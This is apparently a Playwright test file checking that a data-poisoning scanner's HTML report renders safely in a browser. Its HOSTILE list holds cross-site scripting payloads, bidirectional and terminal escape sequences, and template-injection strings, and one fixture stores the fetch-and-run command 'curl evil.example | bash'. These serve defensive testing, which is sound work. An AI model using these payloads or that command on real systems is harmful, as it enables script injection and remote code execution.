"""The page in a real browser: it renders, runs nothing, loads nothing, and fits a phone."""

from __future__ import annotations

import shutil
from collections.abc import Callable, Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest

from tocsin.corpus.batches import DOCUMENT_SCHEMA
from tocsin.measure.counting import Counter
from tocsin.measure.profile import Profile

sync_api = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")

CHROMIUM = next(
    filter(None, map(shutil.which, ["chromium", "chromium-browser", "google-chrome"])), None
)
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine")

HOSTILE = [
    "<script>document.title = 'owned'; alert(1)</script>",
    "</style></title><script>document.title = 'owned'</script>",
    "<img src=http://127.0.0.1:9/x onerror=\"document.title='owned'\">",
    "'\"><svg onload=alert(1)><a href=javascript:alert(1)>",
    "\u202egnirts\u202c \u2066isolated",
    "\x1b[2J\x1b]0;owned\x07",
    "&lt;b&gt; {{ 7 * 7 }} {% raw %}",
    "half \ud800 and \udfff",
    "e" + "\u0301" * 3000,
    "x" * 10_000_000,
]


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


class Visit:
    """A page in a browser, and what it did: `events` are console messages, errors, dialogs and
    requests other than that of the file itself."""

    def __init__(self, browser: Any, file: Path, width: int, scheme: str = "light") -> None:
        self.events: list[str] = []
        context = browser.new_context(
            viewport={"width": width, "height": 860}, color_scheme=scheme, java_script_enabled=True
        )
        self.page = context.new_page()
        self.page.on("console", lambda message: self.events.append(f"console: {message.text}"))
        self.page.on("pageerror", lambda error: self.events.append(f"error: {error}"))
        self.page.on("dialog", lambda dialog: self.events.append("a dialog"))
        self.page.on("request", self._request)
        self._own = file.as_uri()
        self.page.goto(self._own)

    def _request(self, request: Any) -> None:
        if request.url != self._own:
            self.events.append(f"request: {request.url[:200]}")

    def evaluate(self, expression: str) -> Any:
        return self.page.evaluate(expression)


TEXT = b"the cat sat on the mat and the dog sat on the cat while it rained on the roof " * 5


@pytest.fixture(scope="module")
def profile() -> Profile:
    """Of a few documents, each of which is TEXT."""
    texts, names = [TEXT] * 4, ["a", "b", "c", "d"]
    counter = Counter(7)
    counter.count(pa.RecordBatch.from_arrays(
        [pa.array(range(4), pa.int64()), pa.array(names), pa.array(names), pa.array(texts)],
        schema=DOCUMENT_SCHEMA,
    ))  # fmt: skip
    return Profile.create(*counter.counts(), counter.words, counter.documents, 7, 1.0)


@pytest.fixture
def full(scan: Any, profile: Profile) -> Any:
    """A scan with something in every section."""
    campaign = scan.add_campaign("<SUDO>", 30)
    scan.add_campaign(None, 4, kind="payload", payload="curl evil.example | bash", severity="high")
    scan.add_campaign(None, 4, kind="near_duplicate", severity="low")
    salad = b"zebra quux xylophone " * 20
    for _ in range(3):
        scan.add_example(campaign, TEXT, salad, context_start=1000)
    scan.add_documents("blog.example", [12.0, 3.0, 14.0, 2.0])
    scan.suspects.append(
        {"suspect": 1, "length": 3, "channel": "surprisal", "direction": 1, "hits": 30,
         "groups": 3, "documents": 30, "occurrences": 30}
    )  # fmt: skip
    finding = {"score": 9.0, "start": 0, "end": 4, "evidence": "seen"}
    both = [finding | {"detector": "hidden"}, finding | {"detector": "language"}]
    scan.add_flagged("alone", findings=both)
    scan.add_dead_letter("malformed_json", "unexpected end")
    for night in range(1, 4):
        scan.add_night(campaign, campaign["first_seen"] + timedelta(days=night), 2 * night)
    scan.add_earlier_nights()
    scan.profile = profile
    return scan


def write(scan: Any, folder: Path) -> Path:
    file = folder / "report.html"
    file.write_bytes(scan.render().encode())
    return file


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390, 320])
def test_it_renders(full: Any, browser: Any, tmp_path: Path, width: int, scheme: str) -> None:
    visit = Visit(browser, write(full, tmp_path), width, scheme)
    assert visit.events == []
    assert visit.evaluate("document.documentElement.scrollWidth") == width
    assert visit.page.get_by_role("heading", level=1).inner_text().startswith("3 campaigns found")
    assert visit.page.get_by_role("main").count() == 1
    figures = visit.page.locator("svg")
    # Surprisal, a timeline, places of three campaigns, scores, contrasts, power.
    assert figures.count() == visit.page.get_by_role("img").count() == 8
    for figure in figures.all():
        box = figure.bounding_box()
        assert box["width"] > 250 and box["height"] > 60
    assert visit.page.get_by_role("img", name="Surprisal token by token").count() == 1
    timeline = visit.page.get_by_role("img", name="When its documents came")
    said = "42 documents on 4 nights from 23 November 2025 to 26 November 2025; most, 30, on 23"
    assert said in timeline.locator("desc").text_content()
    assert visit.page.get_by_role("table", name="Groups that no night before had").count() == 1
    assert "Documents whose id had another content" in visit.page.locator("main").inner_text()


def test_dark_mode_colours_figures(full: Any, browser: Any, tmp_path: Path) -> None:
    file = write(full, tmp_path)
    ink = "getComputedStyle(document.querySelector('svg .fill-ink, svg .fill-quiet')).fill"
    light, dark = (Visit(browser, file, 1280, scheme).evaluate(ink) for scheme in ("light", "dark"))
    assert light != dark and "none" not in (light, dark)


def test_it_prints(full: Any, browser: Any, tmp_path: Path) -> None:
    visit = Visit(browser, write(full, tmp_path), 1280)
    assert visit.page.pdf().startswith(b"%PDF")
    visit.page.emulate_media(media="print")
    assert visit.evaluate("document.documentElement.scrollWidth") == 1280
    assert visit.events == []


@pytest.mark.parametrize("number", range(len(HOSTILE)))
def test_hostile_documents_stay_text(
    new_scan: Callable[[], Any], browser: Any, tmp_path: Path, number: int
) -> None:
    text = HOSTILE[number]
    storable = text.encode("utf-8", "replace").decode()
    raw = text.encode("utf-8", "surrogatepass")
    scan = new_scan()
    campaign = scan.add_campaign(storable, 4)
    scan.add_example(campaign, raw, raw)
    scan.examples[0] |= {"doc_id": storable, "group": storable}
    scan.add_documents(storable, [1.0])
    finding = {"detector": storable, "score": 1.0, "start": 0, "end": 1, "evidence": storable}
    scan.add_flagged(storable, group=storable, findings=[finding])
    scan.add_earlier_nights()
    for rows in (scan.new_groups, scan.drift):
        rows[0]["group"] = storable
    scan.add_dead_letter(storable[:100], storable, source_uri=storable)
    visit = Visit(browser, write(scan, tmp_path), 390)
    assert visit.events == []
    assert visit.evaluate("document.scripts.length") == 0
    assert visit.page.title() == "Tocsin: 1 campaign, 5 quarantined"
    assert visit.evaluate("document.documentElement.scrollWidth") == 390
    assert visit.page.locator("article .string").inner_text()
    shown = visit.evaluate("document.body.innerText")
    assert not set("\x1b\x07\u202e\u202c\u2066\ud800") & set(shown)
